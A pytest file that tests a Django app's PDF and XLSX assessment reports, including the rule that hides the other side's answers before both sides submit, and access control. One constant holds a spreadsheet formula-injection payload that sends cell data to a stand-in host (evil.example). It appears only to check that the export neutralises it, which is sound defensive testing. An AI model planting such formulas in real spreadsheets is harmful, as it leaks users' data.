"""The results report as PDF and XLSX: content, the blind rule, and the access gate."""

from __future__ import annotations

import io
import shutil
import subprocess
import time
import zipfile
from datetime import date

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from partnering.assessments import reports, selectors, services
from partnering.assessments.models import Assessment, Perspective, QuestionBank
from partnering.core import charts
from partnering.core.choices import Role, Side
from partnering.testing import UserFactory, add_member

# Distinctive strings, so a search of the output cannot match anything by accident.
ALICE_COMMENT = "Quarterly reviews slipped twice AX7731"
ALICE_EVIDENCE = "Board minutes AXEV902"
BOB_COMMENT = "Service desk staffing improved BX4410"
CAROL_COMMENT = "My own view only CX5512"  # an individual answer: never in any report
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'

# Annex B, questions B1 to B9. The customer sees more problems than the provider.
CUSTOMER = ["largely", "largely", "partly", "partly", "largely", "largely", "partly", "not_at_all", "largely"]
PROVIDER = ["fully", "largely", "largely", "fully", "largely", "largely", "largely", "largely", "largely"]
# How each side sees the other party.
CUSTOMER_OTHER = ["largely", "partly", "largely", "largely", "largely", "largely", "largely", "partly", "largely"]
PROVIDER_OTHER = ["largely", "largely", "partly", "largely", "fully", "largely", "largely", "largely", "largely"]


def _answer_individually(world, assessment, user, value):
    access = world.access(user)
    spec = assessment.spec
    for q in spec.questions:
        for p in spec.perspectives:
            services.answer_save(
                access=access,
                assessment=assessment,
                question_id=q.id,
                perspective=p,
                value=value,
                comment=CAROL_COMMENT if user == world.carol else "",
            )
    services.respondent_submit(access=access, assessment=assessment)


def _agree(world, assessment, lead, values, others, *, submit=True):
    access = world.access(lead)
    spec = assessment.spec
    customer = lead == world.alice
    for i, q in enumerate(spec.questions):
        comment = evidence = ""
        if q.id == "B3":
            comment = ALICE_COMMENT if customer else BOB_COMMENT
            evidence = ALICE_EVIDENCE if customer else ""
        if q.id == "B1" and customer:
            comment, evidence = INJECTION, "+44 20 7946 0000"
        services.agreed_answer_save(
            access=access,
            assessment=assessment,
            question_id=q.id,
            perspective=Perspective.SELF,
            value=values[i],
            comment=comment,
            evidence=evidence,
        )
        services.agreed_answer_save(
            access=access, assessment=assessment, question_id=q.id, perspective=Perspective.OTHER, value=others[i]
        )
    if submit:
        return services.side_submit(access=access, assessment=assessment)
    return assessment


def build_annex_b(world, *, reveal=True) -> Assessment:
    """Annex B answered by carol and peter on their own, then agreed by alice and bob."""
    services.banks_sync_builtin()
    bank = QuestionBank.objects.get(key="annex-b", is_current=True)
    alice = world.access(world.alice)
    assessment = services.assessment_start(access=alice, bank=bank, due_date=date(2027, 6, 4), ask_other_view=True)
    services.respondents_invite(access=alice, assessment=assessment, users=[world.carol, world.peter])
    _answer_individually(world, assessment, world.carol, "partly")
    _answer_individually(world, assessment, world.peter, "fully")
    assessment = _agree(world, assessment, world.alice, CUSTOMER, CUSTOMER_OTHER)
    assessment = _agree(world, assessment, world.bob, PROVIDER, PROVIDER_OTHER, submit=reveal)
    assessment.refresh_from_db()
    if reveal:
        services.action_from_assessment(
            access=alice,
            assessment=assessment,
            question_id="B8",
            reason="gap",
            title="Agree a joint monitoring plan",
            owner=world.carol,
            due_date=date(2027, 9, 30),
        )
    return assessment


def _url(name, assessment):
    return reverse(f"assessments:{name}", args=[assessment.arrangement.slug, assessment.uuid])


def _get(client, user, name, assessment):
    client.force_login(user)
    return client.get(_url(name, assessment))


def _pdf_text(content: bytes) -> str:
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed")
    out = subprocess.run(["pdftotext", "-enc", "UTF-8", "-", "-"], input=content, capture_output=True, check=True)
    return " ".join(out.stdout.decode("utf-8").split())


def _workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def _all_cells(wb) -> str:
    return "\n".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None)


@pytest.fixture
def revealed(world):
    return build_annex_b(world)


@pytest.fixture
def blind(world):
    """The customer side has submitted; the provider side has only drafted."""
    return build_annex_b(world, reveal=False)


# -- PDF ------------------------------------------------------------------------------


def test_the_pdf_is_a_pdf_download_named_after_the_arrangement_and_bank(client, world, revealed):
    response = _get(client, world.alice, "report_pdf", revealed)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    today = date.today().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="{world.arrangement.slug}-annex-b-{today}.pdf"'
    assert "no-store" in response["Cache-Control"]


def test_the_pdf_says_the_verdicts_gaps_and_actions(client, world, revealed):
    text = _pdf_text(_get(client, world.alice, "report_pdf", revealed).content)
    res = selectors.results(access=world.access(world.alice), assessment=revealed)
    assert "Needs attention" in text
    assert " ".join(res.customer_verdict.explanation.split()) in text
    assert "Relationship is going well" in text  # the provider's verdict
    assert "Perception gaps" in text and "ONE SIDE SEES A PROBLEM" in text  # a tag, upper-cased by CSS
    assert "Not at all" in text
    assert ALICE_COMMENT in text and BOB_COMMENT in text and ALICE_EVIDENCE in text
    assert "How we see ourselves, and how they see us" in text
    assert "Agree a joint monitoring plan" in text and "Carol Chen" in text and "30 September 2027" in text
    assert "Northshire County Council" in text and "Brightwave Digital" in text
    assert "Peter Price" in text  # respondents per side
    assert f"Generated by Partnering on {date.today():%-d %B %Y}" in text
    assert "Page 1 of" in text


def test_the_pdf_never_shows_individual_answers(client, world, revealed):
    for user in (world.alice, world.bob):
        assert CAROL_COMMENT not in _pdf_text(_get(client, user, "report_pdf", revealed).content)


def test_the_pdf_shows_the_results_pages_chart_drawn_for_print(client, world, revealed):
    """Same answers, same drawing; the page has it as SVG, the PDF as a PNG at print resolution
    (WeasyPrint spent about half a second drawing the SVG's glyph paths)."""
    page = _get(client, world.alice, "results", revealed)
    res = selectors.results(access=world.access(world.alice), assessment=revealed)
    html = reports.report_html(reports.Report(access=world.access(world.alice), results=res, generated_on=date.today()))

    printed = charts.answers_chart_print_data_uri(res.bank, res.rows)
    assert page.context["chart"] == charts.answers_chart_data_uri(res.bank, res.rows)
    assert page.context["chart"].startswith("data:image/svg+xml;base64,")
    assert printed.startswith("data:image/png;base64,") and f'src="{printed}"' in html


# -- XLSX -----------------------------------------------------------------------------


def test_the_xlsx_has_every_sheet_with_a_bold_frozen_header(client, world, revealed):
    response = _get(client, world.alice, "report_xlsx", revealed)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert response["Content-Disposition"].endswith(f'-annex-b-{date.today().isoformat()}.xlsx"')
    wb = _workbook(response.content)
    assert wb.sheetnames == ["Summary", "Answers", "Gaps", "Actions", "Respondents"]
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        assert ws["A1"].font.b
        assert ws.column_dimensions["A"].width > 8


def test_the_xlsx_holds_the_answers_gaps_actions_and_respondents(client, world, revealed):
    wb = _workbook(_get(client, world.alice, "report_xlsx", revealed).content)
    answers = {row[0]: row for row in wb["Answers"].iter_rows(min_row=2, values_only=True)}
    assert list(answers) == [f"B{i}" for i in range(1, 10)]
    b3 = answers["B3"]
    assert b3[3:7] == ("Partly", "Largely", "Largely", "Partly")
    assert b3[7] == ALICE_COMMENT and b3[8] == BOB_COMMENT and b3[11] == ALICE_EVIDENCE
    assert b3[13] == 1 and b3[14] == "Yes" and b3[15] is None
    assert answers["B8"][13] == 2
    gaps = list(wb["Gaps"].iter_rows(min_row=2, values_only=True))
    # Largest first; B4 and B8 both differ by 2 and cross the threshold, so bank order decides.
    assert [(g[1], g[5], g[6]) for g in gaps[:3]] == [("B4", 2, "Yes"), ("B8", 2, "Yes"), ("B3", 1, "Yes")]
    assert any(g[0].startswith("The provider's view of itself") for g in gaps)
    actions = list(wb["Actions"].iter_rows(min_row=2, values_only=True))
    assert actions[0][0] == "Agree a joint monitoring plan" and actions[0][2] == "Carol Chen"
    assert actions[0][3].date() == date(2027, 9, 30)
    respondents = set(wb["Respondents"].iter_rows(min_row=2, values_only=True))
    assert respondents == {("Carol Chen", "Customer"), ("Peter Price", "Provider")}
    summary = dict(wb["Summary"].iter_rows(min_row=2, values_only=True))
    assert summary["Question bank"].startswith("Annex B")
    assert summary["Joint verdict"] == "Needs attention"
    assert summary["Provider's verdict"] == "Relationship is going well"


def test_the_xlsx_writes_formula_like_text_as_plain_strings(client, world, revealed):
    content = _get(client, world.alice, "report_xlsx", revealed).content
    wb = _workbook(content)
    b1 = next(row for row in wb["Answers"].iter_rows(min_row=2) if row[0].value == "B1")
    assert b1[7].value == INJECTION and b1[7].data_type == "s" and b1[7].quotePrefix
    assert b1[11].value == "+44 20 7946 0000" and b1[11].data_type == "s" and b1[11].quotePrefix
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets and "<f " not in sheets


def test_the_xlsx_takes_eight_queries(client, world, revealed, django_assert_num_queries):
    client.force_login(world.alice)
    url = _url("report_xlsx", revealed)
    # session, user, membership with arrangement and organisations, current roles,
    # the assessment with its bank, then results(): answers, respondents, actions.
    # The same eight for the 10-respondent Gate 2 measured below.
    with django_assert_num_queries(8):
        assert client.get(url).status_code == 200


def test_a_single_side_bank_reports_that_side_alone(world):
    services.banks_sync_builtin()
    bank = QuestionBank.objects.get(key="partner-suitability-sro", is_current=True)
    alice = world.access(world.alice)
    assessment = services.assessment_start(access=alice, bank=bank, subject="Brightwave Digital")
    for q in bank.bank.questions:
        services.agreed_answer_save(access=alice, assessment=assessment, question_id=q.id, value="yes")
    assessment = services.side_submit(access=alice, assessment=assessment)
    report = reports.Report(
        access=alice, results=selectors.results(access=alice, assessment=assessment), generated_on=date.today()
    )
    html = reports.report_html(report)
    assert assessment.is_revealed and not report.own_side_only
    assert "Customer&#x27;s verdict" in html
    assert "Provider&#x27;s verdict" not in html and "Joint verdict" not in html and "Perception gaps" not in html
    wb = _workbook(reports.render_xlsx(report))
    summary = dict(wb["Summary"].iter_rows(min_row=2, values_only=True))
    assert "Note" not in summary  # no "before the reveal" note
    assert summary["Customer's verdict"] == "No concerns"
    assert "Provider's verdict" not in summary and "Joint verdict" not in summary


# -- the blind rule and the gate ------------------------------------------------------


def test_before_the_reveal_bobs_pdf_has_none_of_alices_answers(client, world, blind):
    text = _pdf_text(_get(client, world.bob, "report_pdf", blind).content)
    assert "Before the reveal: this report shows only the provider side's answers" in text
    assert BOB_COMMENT in text
    for secret in (ALICE_COMMENT, ALICE_EVIDENCE, "HYPERLINK", CAROL_COMMENT, "Needs attention"):
        assert secret not in text
    # Every customer cell of the answers table says it is hidden, none shows an answer.
    assert text.count("Hidden until both sides submit") == 9


def test_before_the_reveal_alices_pdf_has_hers_only(client, world, blind):
    text = _pdf_text(_get(client, world.alice, "report_pdf", blind).content)
    assert "only the customer side's answers" in text
    assert ALICE_COMMENT in text and ALICE_EVIDENCE in text
    assert BOB_COMMENT not in text


def test_before_the_reveal_the_report_html_holds_only_the_own_side(world, blind):
    """The same check without a PDF reader: the PDF is drawn from exactly this HTML."""
    for user, mine, theirs in ((world.bob, BOB_COMMENT, ALICE_COMMENT), (world.alice, ALICE_COMMENT, BOB_COMMENT)):
        access = world.access(user)
        report = reports.Report(
            access=access, results=selectors.results(access=access, assessment=blind), generated_on=date.today()
        )
        html = reports.report_html(report)
        assert mine in html and theirs not in html


def test_before_the_reveal_bobs_xlsx_has_none_of_alices_answers(client, world, blind):
    bob = _all_cells(_workbook(_get(client, world.bob, "report_xlsx", blind).content))
    assert BOB_COMMENT in bob and "only the provider side's answers" in bob
    for secret in (ALICE_COMMENT, ALICE_EVIDENCE, "HYPERLINK", CAROL_COMMENT, "Not at all", "Needs attention"):
        assert secret not in bob
    answers = list(
        _workbook(_get(client, world.bob, "report_xlsx", blind).content)["Answers"].iter_rows(
            min_row=2, values_only=True
        )
    )
    assert all(row[3] is None and row[5] is None and row[7] is None and row[11] is None for row in answers)
    assert all(row[4] for row in answers)  # bob's own side is there
    alice = _all_cells(_workbook(_get(client, world.alice, "report_xlsx", blind).content))
    assert ALICE_COMMENT in alice and BOB_COMMENT not in alice


@pytest.mark.parametrize("name", ["report_pdf", "report_xlsx"])
@pytest.mark.parametrize(
    ("who", "status"),
    [("alice", 200), ("bob", 200), ("dave", 200), ("peter", 200), ("fran", 403), ("charlie", 404)],
)
def test_who_may_download_before_the_reveal(client, world, blind, name, who, status, monkeypatch):
    # fran, the facilitator, sees blind answers only if the openness profile allows it (it does not here).
    monkeypatch.setattr(reports, "render_pdf", lambda report: b"%PDF-1.7 stub")  # the gate, not the drawing
    assert _get(client, getattr(world, who), name, blind).status_code == status


@pytest.mark.parametrize("name", ["report_pdf", "report_xlsx"])
def test_an_outsider_gets_404_after_the_reveal_too(client, world, revealed, name):
    assert _get(client, world.charlie, name, revealed).status_code == 404


def test_an_anonymous_visitor_is_sent_to_sign_in(client, world, revealed):
    response = client.get(_url("report_pdf", revealed))
    assert response.status_code == 302 and "sign-in" in response["Location"]


# -- measurements (printed, not asserted: run with -s to see them) --------------------


def test_measure_a_gate_2_pdf_with_ten_respondents_and_the_results_page_queries(client, world):
    services.banks_sync_builtin()
    bank = QuestionBank.objects.get(key="gate-2", is_current=True)
    alice = world.access(world.alice)
    assessment = services.assessment_start(access=alice, bank=bank)
    # Gate 2 is the SRO's: the customer side answers it alone, ten of them here.
    people = [UserFactory(organisation=world.customer) for _ in range(9)]
    for person in people:
        add_member(world.arrangement, person, Side.CUSTOMER, Role.CONTRACT_MANAGER)
    respondents = [*people, world.carol]
    services.respondents_invite(access=alice, assessment=assessment, users=respondents)
    spec = assessment.spec
    values = list(spec.scale.values)
    for n, person in enumerate(respondents):
        access = world.access(person)
        for i, q in enumerate(spec.questions):
            services.answer_save(
                access=access,
                assessment=assessment,
                question_id=q.id,
                value=values[(i + n) % len(values)],
                comment=f"Respondent note {n} on {q.id}.",
            )
        services.respondent_submit(access=access, assessment=assessment)
    for lead, shift in ((world.alice, 0),):
        access = world.access(lead)
        for i, q in enumerate(spec.questions):
            services.agreed_answer_save(
                access=access,
                assessment=assessment,
                question_id=q.id,
                value=values[(i + shift) % len(values)],
                comment=f"Agreed view on {q.id}: " + "evidence from the service reviews. " * 3,
            )
        assessment = services.side_submit(access=access, assessment=assessment)
    assert assessment.is_revealed and len(spec.questions) == 14

    client.force_login(world.alice)
    url = _url("report_pdf", assessment)
    cache.clear()
    start = time.perf_counter()
    response = client.get(url)
    cold = time.perf_counter() - start
    assert response.status_code == 200
    # Wall time depends on the machine's load; CPU time (process_time) much less so.
    with CaptureQueriesContext(connection) as pdf:
        wall, cpu = time.perf_counter(), time.process_time()
        client.get(url)
        wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
    with CaptureQueriesContext(connection) as page:
        assert client.get(_url("results", assessment)).status_code == 200
    print(
        f"\nGate 2 PDF (14 questions, 10 respondents, {len(response.content) / 1024:.0f} KiB): "
        f"{cold:.2f} s first (chart drawn); then {wall:.2f} s wall, {cpu:.2f} s CPU; "
        f"results page {len(page.captured_queries)} queries, PDF {len(pdf.captured_queries)} queries"
    )
